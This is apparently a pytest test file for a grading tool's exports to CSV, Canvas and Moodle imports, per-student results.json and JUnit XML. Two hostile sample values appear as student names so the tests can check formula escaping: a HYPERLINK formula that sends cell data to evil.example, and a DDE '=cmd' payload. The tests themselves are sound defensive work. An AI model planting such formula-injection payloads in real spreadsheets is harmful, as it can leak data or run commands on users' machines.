"""Exports of the gradebook: the CSV a spreadsheet opens, Canvas's and Moodle's grade imports,
results.json per student, JUnit XML; all rendered from one reading of the class, so that they
agree on every student's raw score, penalty, override, final score and maximum."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import json
import re
import xml.etree.ElementTree as ET
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grader import export
from grader.cli import main
from grader.config import Config, load_config
from grader.errors import ConfigError, ExportError
from grader.export import (
    ClassGrades,
    class_grades,
    spreadsheet_safe,
    student_slugs,
    write_canvas,
    write_csv,
    write_junit,
    write_moodle,
)
from grader.feedback import student_folders
from grader.gradebook import Gradebook, GradedNotebook, GradingAction
from grader.results import FAILED, PASSED, CheckResult, NotebookResult
from grader.roster import RosterEntry
from grader.submissions import Submission

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CHECKS = {"01_a": [1.0, 1.0], "02_b": [1.0], "03_c": [2.0]}
"""The course's checks' points: 03_c is handed in by no one and still counts in the maximum."""


def make_course(root: Path, settings: str = "") -> Config:
    """A course whose checks modules declare `CHECKS`; no kernel ever runs in these tests."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "pyproject.toml").write_text(f"[tool.grader]\n{settings}", encoding="utf-8")
    for notebook, points in CHECKS.items():
        for folder in ("solutions", "exercises", "checks"):
            (root / folder).mkdir(parents=True, exist_ok=True)
        (root / "solutions" / f"{notebook}.ipynb").write_text("{}", encoding="utf-8")
        tests = "".join(
            f"@pytest.mark.grade('cell', points={p})\ndef test_check{i}(student):\n    pass\n\n"
            for i, p in enumerate(points)
        )
        (root / "checks" / f"{notebook}.py").write_text(f"import pytest\n\n{tests}")
    return load_config(root)


def record(
    gradebook: Gradebook, student: str, notebook: str, scores: list[float],
    at: datetime = datetime(2026, 11, 20), file: str = "",
) -> None:  # fmt: skip
    checks = tuple(
        CheckResult(notebook, "cell", f"check{i}", 1.0, score, PASSED if score else FAILED)
        for i, score in enumerate(scores)
    )
    file = file or f"{student}/{notebook}.ipynb"
    submission = Submission(
        student, notebook, Path(file), file, f"{student}{notebook}".ljust(64, "0")[:64], at,
        lms_late="_late_" in file,
    )  # fmt: skip
    gradebook.record(submission, NotebookResult(notebook, submission.file, checks), "1", "v")


@pytest.fixture
def course(tmp_path: Path) -> Config:
    return make_course(tmp_path / "course")


@pytest.fixture
def graded(tmp_path: Path) -> list[GradedNotebook]:
    with Gradebook(str(tmp_path / "gradebook.db")) as gradebook:
        record(gradebook, "alice", "01_a", [1.0, 1.0])
        record(gradebook, "alice", "02_b", [0.0])
        record(gradebook, "bob", "01_a", [0.0, 1.0])  # bob never handed in 02_b
        record(gradebook, HOSTILE, "02_b", [1.0])
        return gradebook.latest()


@pytest.fixture
def grades(graded: list[GradedNotebook], course: Config, tmp_path: Path) -> ClassGrades:
    with Gradebook(str(tmp_path / "gradebook.db")) as gradebook:
        return class_grades(gradebook, course)


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def exporting(tmp_path: Path, *args: str) -> int:
    course = ["--course", str(tmp_path / "course")]
    return main([*course, "export", "--db", str(tmp_path / "gradebook.db"), *args])


def test_csv_has_a_row_per_student_and_columns_per_check_notebook_and_total(
    grades: ClassGrades, tmp_path: Path
) -> None:
    write_csv(grades, tmp_path / "grades.csv")
    rows = {row["student"]: row for row in read_csv(tmp_path / "grades.csv")}
    parts = ("raw", "late days", "penalty", "override", "total")
    assert list(next(iter(rows.values()))) == [
        "student", "name",
        "01_a::cell::check0", "01_a::cell::check1", *(f"01_a {part}" for part in parts),
        "02_b::cell::check0", *(f"02_b {part}" for part in parts),
        *(f"03_c {part}" for part in parts),
        "total", "max_total",
    ]  # fmt: skip
    assert rows["alice"]["01_a total"] == "2.0" and rows["alice"]["total"] == "2.0"
    assert rows["bob"]["01_a::cell::check0"] == "0.0" and rows["bob"]["02_b total"] == "missing"
    assert rows["bob"]["02_b::cell::check0"] == "missing"  # never handed in: not a score of 0
    assert rows["bob"]["02_b raw"] == "missing" and rows["bob"]["02_b penalty"] == ""
    assert rows["bob"]["01_a late days"] == "0" and rows["bob"]["01_a penalty"] == "0.0"
    # the maximum is the course's, from its checks: 03_c, which no one handed in, counts
    assert rows["bob"]["total"] == "1.0" and rows["bob"]["max_total"] == "5.0"


def test_csv_names_cannot_become_formulas(grades: ClassGrades, tmp_path: Path) -> None:
    write_csv(grades, tmp_path / "grades.csv")
    students = [row["student"] for row in read_csv(tmp_path / "grades.csv")]
    assert f"'{HOSTILE}" in students
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1"):
        assert spreadsheet_safe(cell).startswith("'")
    assert spreadsheet_safe("alice") == "alice"


def test_results_json_per_student_and_junit(
    graded: list[GradedNotebook], course: Config, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    assert exporting(tmp_path, "--results-dir", str(out), "--junit", str(out / "c.xml")) == 0
    slugs = student_slugs(g.student for g in graded)
    alice = json.loads((out / "alice" / "results.json").read_text())
    assert (alice["score"], alice["max_score"]) == (2.0, 5.0)
    assert alice["extra_data"]["student"] == "alice" and alice["extra_data"]["missing"] == ["03_c"]
    bob = json.loads((out / "bob" / "results.json").read_text())
    # one maximum in every format: the CSV's max_total, 02_b (not handed in) included
    assert (bob["score"], bob["max_score"]) == (1.0, 5.0)
    assert bob["extra_data"]["missing"] == ["02_b", "03_c"]
    assert [t["name"] for t in alice["tests"]][-1] == "02_b::cell::check0"
    hostile = json.loads((out / slugs[HOSTILE] / "results.json").read_text())
    assert hostile["extra_data"]["student"] == HOSTILE
    suites = ET.parse(out / "c.xml").getroot().findall("testsuite")
    assert [s.get("name") for s in suites][:3] == [f"{HOSTILE}/02_b", "alice/01_a", "alice/02_b"]
    assert [s.get("failures") for s in suites] == ["0", "0", "1", "1"]


def test_export_needs_a_format_and_a_course(
    course: Config, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert exporting(tmp_path) == 2
    assert "say what to export" in capsys.readouterr().err
    nowhere = ["--course", str(tmp_path), "export", "--db", str(tmp_path / "g.db"), "--csv", "x"]
    assert main(nowhere) == 2
    assert "is not a course folder" in capsys.readouterr().err


def test_slugs_are_safe_and_distinct() -> None:
    slugs = student_slugs(["Ann Lee", "Ann_Lee", "../..", "", "Zoë", "alice"])
    assert slugs["alice"] == "alice"
    assert len(set(slugs.values())) == 6
    for slug in slugs.values():
        assert slug and "/" not in slug and not slug.startswith(".")


def _hashed(slug: str, name: str, length: int = 10) -> str:
    return f"{slug}-{hashlib.sha256(name.encode()).hexdigest()[:length]}"


@pytest.mark.parametrize(
    "names",
    [
        # A student names a folder after another's hashed form, or its lower-case twin.
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee")],
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee").upper()],
        # ... after the longer fallback as well.
        ["Ann Lee", "Ann_Lee", _hashed("Ann_Lee", "Ann Lee"), _hashed("Ann_Lee", "Ann Lee", 16)],
        # Names that clean to nothing, and one that names the fallback of those.
        ["", "..", "___", _hashed("student", "")],
        ["index.html", "INDEX.HTML", "index_html"],
    ],
)
def test_slugs_never_collide_after_any_transformation(names: list[str]) -> None:
    for slugs in (student_slugs(names), student_folders(names)):
        assert len({slug.lower() for slug in slugs.values()}) == len(names)
    assert "index.html" not in {slug.lower() for slug in student_folders(names).values()}


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet="aA_ .-/\\x00é", max_size=12), max_size=12))
def test_slugs_are_distinct_for_any_names(names: list[str]) -> None:
    slugs = student_folders(names)
    assert len({slug.lower() for slug in slugs.values()}) == len(set(names))
    for slug in slugs.values():
        assert slug and "/" not in slug and "\x00" not in slug and not slug.startswith(".")


def test_junit_labels_suites_by_student(grades: ClassGrades, tmp_path: Path) -> None:
    write_junit(grades, tmp_path / "class.xml")
    root = ET.parse(tmp_path / "class.xml").getroot()
    assert len(root.findall("testsuite")) == len(grades.graded)
    bob = root.find("testsuite[@name='bob/01_a']")
    assert bob is not None
    properties = {p.get("name"): p.get("value") for p in bob.iter("property")}
    assert properties == {
        "raw": "1.0", "maximum": "2.0", "late_days": "0", "penalty": "0.0", "override": "",
        "excused": "False", "final": "1.0", "status": "graded",
    }  # fmt: skip


def test_slugs_avoid_reserved_and_windows_device_names() -> None:
    slugs = student_slugs(["index.html", "INDEX.HTML", "nul", "Con.txt", "lpt1"], {"index.html"})
    for slug in slugs.values():
        assert slug.lower() != "index.html"
        assert slug.lower().split(".")[0] not in {"nul", "con", "lpt1"}
    assert len({slug.lower() for slug in slugs.values()}) == 5


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=100), max_size=12), st.sets(st.text(max_size=12), max_size=3))
def test_slugs_of_any_names_are_safe_distinct_and_never_reserved(
    names: list[str], reserved: set[str]
) -> None:
    slugs = student_slugs(names, reserved)
    assert set(slugs) == set(names)
    folded = [slug.lower() for slug in slugs.values()]
    assert len(set(folded)) == len(folded)
    assert not set(folded) & {name.lower() for name in reserved}
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", slug) for slug in slugs.values())


def test_export_creates_missing_folders(
    graded: list[GradedNotebook], course: Config, tmp_path: Path
) -> None:
    deep = tmp_path / "not" / "yet"
    args = ["--csv", str(deep / "a" / "g.csv"), "--junit", str(deep / "b" / "c.xml")]
    assert exporting(tmp_path, *args, "--results-dir", str(deep / "r")) == 0
    assert read_csv(deep / "a" / "g.csv") and ET.parse(deep / "b" / "c.xml").getroot() is not None
    assert (deep / "r" / "alice" / "results.json").is_file()
    assert (deep / "a" / "g.csv").stat().st_mode & 0o777 == 0o644


def test_export_into_a_folder_that_cannot_be_made_is_one_line(
    graded: list[GradedNotebook],
    course: Config,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    (tmp_path / "file").write_text("in the way")
    for option in ("--csv", "--canvas", "--moodle"):
        assert exporting(tmp_path, option, str(tmp_path / "file" / "g.csv")) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "a file of that name is in the way" in err
        assert "Traceback" not in err
    assert exporting(tmp_path, "--junit", str(tmp_path)) == 2
    assert "it is a folder" in capsys.readouterr().err


def test_a_failed_write_keeps_the_previous_file_and_leaves_nothing(
    grades: ClassGrades, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out" / "grades.csv"
    write_csv(grades, target)
    target.chmod(0o600)
    before = target.read_bytes()

    def fail(source: object, destination: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "replace", fail)
    fewer = dataclasses.replace(grades, standings=dict(list(grades.standings.items())[:1]))
    with pytest.raises(ExportError, match="No space left on device"):
        write_csv(fewer, target)
    assert target.read_bytes() == before and list(target.parent.iterdir()) == [target]
    monkeypatch.undo()
    write_csv(fewer, target)
    assert target.read_bytes() != before and target.stat().st_mode & 0o777 == 0o600


CANVAS_ROSTER = [
    RosterEntry("4711", "Doe, Jane", "jane@example.edu", "A"),
    RosterEntry("4712", "=cmd|' /C calc'!A0", "mallory@example.edu", "B"),
    RosterEntry("4713", "Lee, Ann", "ann@example.edu", "A"),
    RosterEntry("4714", "Roe, Rick", "rick@example.edu", "B"),
]
DUE = "2026-11-20T23:59:00+00:00"


@pytest.fixture
def semester(tmp_path: Path) -> tuple[ClassGrades, Config]:
    """Four roster students: on time, late by the LMS's mark and by the clock, an override, an
    excuse, notebooks not handed in, and a graded student off the roster."""
    settings = f'late_penalty_per_day = 0.25\n[tool.grader.due]\n"01_a" = "{DUE}"\n'
    settings += '[tool.grader.canvas_columns]\n"01_a" = "Autograd basics (4321)"\n'
    config = make_course(tmp_path / "course", settings)
    with Gradebook(str(tmp_path / "gradebook.db")) as gradebook:
        gradebook.import_roster(CANVAS_ROSTER)
        record(gradebook, "doejane_4711", "01_a", [1.0, 1.0], file="doejane_late_4711_99_01_a")
        record(gradebook, "4712", "01_a", [1.0, 0.0], at=datetime(2026, 11, 22, 12))  # 2 days
        record(gradebook, "4712", "02_b", [0.0])
        record(gradebook, "4713", "01_a", [0.0, 0.0])
        record(gradebook, "stranger", "02_b", [1.0])
        gradebook.act(GradingAction("4713", "01_a", "override", score=1.5, text="partial"))
        gradebook.act(GradingAction("4713", "02_b", "excuse", text="ill"))
        return class_grades(gradebook, config), config


def canvas_import_problems(path: Path) -> list[str]:
    """What Canvas's gradebook import would refuse or misread in `path`, by its documented
    rules: the columns Student, ID, SIS User ID, SIS Login ID, Section first; then assignment
    columns, each `Name (id)` or a new assignment's name; an optional "Points Possible" row
    (numbers under the assignments, nothing under the student columns); every student row with
    an ID, once; every score empty, EX or a number; as many cells in every row as headings."""
    rows = read_rows(path)
    header, problems = rows[0], []
    if header[:5] != ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]:
        problems.append(f"first columns {header[:5]}")
    assignments = header[5:]
    if not assignments or len(set(assignments)) != len(assignments) or not all(assignments):
        problems.append(f"assignment columns {assignments}")
    students = rows[1:]
    if students and students[0][0].strip() == "Points Possible":
        possible, students = students[0], students[1:]
        if any(possible[1:5]) or not all(re.fullmatch(r"\d+(\.\d+)?", p) for p in possible[5:]):
            problems.append(f"points possible row {possible}")
    ids = [row[1] for row in students]
    if not all(ids) or len(set(ids)) != len(ids):
        problems.append(f"student ids {ids}")
    for row in rows:
        if len(row) != len(header):
            problems.append(f"row of {len(row)} cells: {row}")
    for row in students:
        for score in row[5:]:
            if score not in ("", "EX") and not re.fullmatch(r"\d+(\.\d+)?", score):
                problems.append(f"score {score!r}")
        if any(cell.startswith(("=", "+", "-", "@")) for cell in row[:5]):
            problems.append(f"a formula in {row[:5]}")
    return problems


def test_the_canvas_file_follows_canvas_import_rules(
    semester: tuple[ClassGrades, Config], tmp_path: Path
) -> None:
    grades, config = semester
    write_canvas(grades, tmp_path / "canvas.csv", config)
    assert canvas_import_problems(tmp_path / "canvas.csv") == []
    rows = read_rows(tmp_path / "canvas.csv")
    assert rows[0] == [*export.CANVAS_COLUMNS, "Autograd basics (4321)", "02_b", "03_c"]
    assert rows[1] == ["Points Possible", "", "", "", "", "2.0", "1.0", "2.0"]
    by_id = {row[1]: row for row in rows[2:]}
    assert list(by_id) == ["4711", "4712", "4713", "4714"], "roster students only, all of them"
    assert by_id["4711"] == ["Doe, Jane", "4711", "", "jane@example.edu", "A", "1.5", "", ""]
    assert by_id["4712"][0] == "'=cmd|' /C calc'!A0" and by_id["4712"][5:] == ["0.0", "0.0", ""]
    assert by_id["4713"][5:] == ["1.5", "EX", ""], "the override counts; excused is EX"
    assert by_id["4714"][5:] == ["", "", ""], "nothing handed in: no grade, not 0"


def test_a_single_canvas_assignment_column_holds_the_total(
    semester: tuple[ClassGrades, Config], tmp_path: Path
) -> None:
    grades, config = semester
    single = dataclasses.replace(config, canvas_assignment="Autodiff notebooks (99)")
    write_canvas(grades, tmp_path / "canvas.csv", single)
    assert canvas_import_problems(tmp_path / "canvas.csv") == []
    rows = read_rows(tmp_path / "canvas.csv")
    assert rows[0][5:] == ["Autodiff notebooks (99)"] and rows[1][5:] == ["5.0"]
    # 4713's excused 02_b counts in neither the points nor the maximum: 1.5 of 4, out of 5
    assert [row[5] for row in rows[2:]] == ["1.5", "0.0", "1.88", ""]


def test_every_export_agrees_on_raw_penalty_override_and_total(
    semester: tuple[ClassGrades, Config], tmp_path: Path
) -> None:
    grades, config = semester
    write_csv(grades, tmp_path / "grades.csv")
    write_moodle(grades, tmp_path / "moodle.csv")
    write_canvas(grades, tmp_path / "canvas.csv", config)
    rows = {row["student"]: row for row in read_csv(tmp_path / "grades.csv")}
    assert list(rows) == ["4711", "4712", "4713", "4714", "stranger"]
    jane, mallory, ann = rows["4711"], rows["4712"], rows["4713"]
    # the LMS's late mark: a day late, a quarter of the maximum off
    assert [jane[f"01_a {c}"] for c in ("raw", "late days", "penalty", "override", "total")] == [
        "2.0", "1", "0.5", "", "1.5",
    ]  # fmt: skip
    assert (mallory["01_a late days"], mallory["01_a penalty"], mallory["01_a total"]) == (
        "2", "1.0", "0.0",
    )  # fmt: skip
    assert (ann["01_a raw"], ann["01_a override"], ann["01_a total"]) == ("0.0", "1.5", "1.5")
    assert (ann["02_b total"], ann["max_total"]) == ("excused", "4.0")
    assert rows["4714"]["01_a total"] == "missing" and rows["4714"]["max_total"] == "5.0"
    moodle = {row["ID number"]: row for row in read_csv(tmp_path / "moodle.csv")}
    assert list(next(iter(moodle.values()))) == [*export.MOODLE_COLUMNS, "01_a", "02_b", "03_c"]
    canvas = {row["ID"]: row for row in read_csv(tmp_path / "canvas.csv")[1:]}
    for student in ("4711", "4712", "4713", "4714"):
        totals = [rows[student][f"{nb} total"] for nb in CHECKS]
        lms = [t if t not in ("missing", "excused") else "" for t in totals]
        assert [moodle[student][nb] for nb in CHECKS] == lms
        assert [canvas[student][h] for h in ("Autograd basics (4321)", "02_b", "03_c")] == [
            "EX" if t == "excused" else v for t, v in zip(totals, lms, strict=True)
        ]
    assert moodle["4711"]["Email address"] == "jane@example.edu"


def test_export_writes_every_format_from_the_command_line(
    semester: tuple[ClassGrades, Config], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    files = {option: tmp_path / "out" / f"{option[2:]}.csv" for option in ("--canvas", "--moodle")}
    assert exporting(tmp_path, *(str(x) for pair in files.items() for x in pair)) == 0
    out, err = capsys.readouterr()
    assert "not on the roster: stranger" in err
    assert all(f"wrote {path}" in out for path in files.values())
    assert canvas_import_problems(files["--canvas"]) == []


@pytest.mark.parametrize(
    ("columns", "message"),
    [
        ('nope = "X (1)"', r"'nope' = 'X \(1\)': each key must be a notebook"),
        ('"01_a" = " "', "each key must be a notebook of the course"),
        ('"01_a" = "02_b"', "another column of the Canvas file is headed so"),
        ('"01_a" = "A (1)"\n"02_b" = "A (1)"', "another column of the Canvas file is headed so"),
        ('"01_a" = "SIS Login ID"', "another column of the Canvas file is headed so"),
    ],
)
def test_canvas_columns_must_be_course_notebooks_headed_apart(
    tmp_path: Path, columns: str, message: str
) -> None:
    with pytest.raises(ConfigError, match=message):
        make_course(tmp_path, f"[tool.grader.canvas_columns]\n{columns}\n")
